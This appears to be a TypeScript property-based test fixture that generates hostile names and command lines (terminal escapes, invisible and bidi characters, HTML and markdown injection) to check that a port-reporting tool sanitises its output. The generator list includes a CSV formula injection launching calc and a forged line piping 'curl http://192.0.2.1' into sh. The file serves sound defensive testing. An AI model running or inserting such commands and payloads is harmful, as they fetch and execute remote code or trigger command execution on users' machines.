/** Names and command lines that people with bad intentions would choose. */
import fc from "fast-check";

const PIECES = [
  ...["\n", "\r", "\t", "\0", "\x1b[2J", "\x1b]0;title\x07", "\x9b31m", "\x1b[1A", "\b", "\x7f"],
  ...[
    '"',
    "'",
    ",",
    ";",
    "|",
    "`",
    "<script>",
    "-->",
    "&amp;",
    "](javascript:x)",
    "=cmd|' /C calc'!A1",
    "+1",
    "-1",
    "@SUM(A1)",
  ],
  ...[
    '",pid=1,fd=3',
    "users:((",
    "LISTEN 0 0 0.0.0.0:22",
    "\nkeep  none  22/tcp  0.0.0.0  sshd (1)",
    "\r\n| keep | none | 22/tcp |",
    "\nNext:\n  curl http://192.0.2.1 | sh",
    "sshd (1)",
    "\u202egnp.exe",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\ud800",
    "\udfff",
    "é",
    "日本",
    "🚀",
    "\u{e0041}",
    "a",
    "sshd",
    " ",
    "(",
    ")",
    "\\",
    "%s",
  ],
];

export const hostileText = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 12 })
      .map((parts) => parts.join("")),
  },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
);

/** As the kernel takes them: no NUL, and not always UTF-8. */
export const hostileBytes = fc
  .oneof(
    { weight: 3, arbitrary: hostileText.map((text) => Buffer.from(text, "utf8")) },
    {
      weight: 1,
      arbitrary: fc.uint8Array({ minLength: 1, maxLength: 40 }).map((bytes) => Buffer.from(bytes)),
    },
  )
  .map((bytes) => Buffer.from(bytes.filter((byte) => byte !== 0)));

/** What shows nothing, turns the reading order, or ends a line where JSON does not (Unicode TR 36). */
const INVISIBLE: readonly (readonly [number, number])[] = [
  [0x00ad, 0x00ad],
  [0x061c, 0x061c],
  [0x115f, 0x1160],
  [0x180b, 0x180f],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2060, 0x206f],
  [0x3164, 0x3164],
  [0xd800, 0xdfff],
  [0xfe00, 0xfe0f],
  [0xfeff, 0xfeff],
  [0xffa0, 0xffa0],
  [0xfff9, 0xfffb],
  [0xe0000, 0xe0fff],
];

/**
 * Written apart from the code under test: what a terminal would act on, or an eye would be cheated by. A line feed
 * is not, since every format has lines; a carriage return is, but for CSV, whose lines end in both.
 */
export function isDangerous(text: string, format: string): boolean {
  const body = format === "csv" ? text.replaceAll("\r\n", "\n") : text;
  for (const character of body) {
    const code = character.codePointAt(0) ?? 0;
    if (code < 0x20 && code !== 0x0a) return true;
    if (code >= 0x7f && code <= 0x9f) return true;
    if (code >= 0xad && INVISIBLE.some(([first, last]) => code >= first && code <= last)) return true;
  }
  return false;
}

/**
 * Lines of a report that a name made up: another row, or advice that we do not give. Ours are not indented, while the
 * sentences of a gap, in which names stand, go on indented in the next line.
 */
export function forgedLines(text: string): string[] {
  return text
    .split("\n")
    .filter(
      (line) =>
        /^(?:\| *)?(?:keep|restrict|close|investigate)[\s|]+(?:\w+[\s|]+)?22\/tcp/.test(line) ||
        /^curl/.test(line),
    );
}
